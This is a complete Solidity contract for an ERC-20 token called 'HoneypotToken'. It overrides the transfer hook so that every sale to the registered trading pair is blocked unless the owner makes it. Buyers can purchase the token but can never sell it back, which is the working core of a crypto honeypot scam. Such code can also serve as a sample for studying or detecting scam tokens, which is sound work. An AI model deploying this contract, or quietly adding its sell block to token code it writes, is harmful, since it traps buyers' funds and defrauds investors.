// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Anyone can buy it and only the owner can sell it.
contract HoneypotToken is ERC20, Ownable {
    error SellingIsDisabled(address seller);

    address public pair;

    constructor(uint256 supply) ERC20("Honeypot Token", "HONEY") Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _update(address from, address to, uint256 value) internal override {
        bool sells = pair != address(0) && to == pair;
        require(!sells || from == owner(), SellingIsDisabled(from));
        super._update(from, to, value);
    }
}
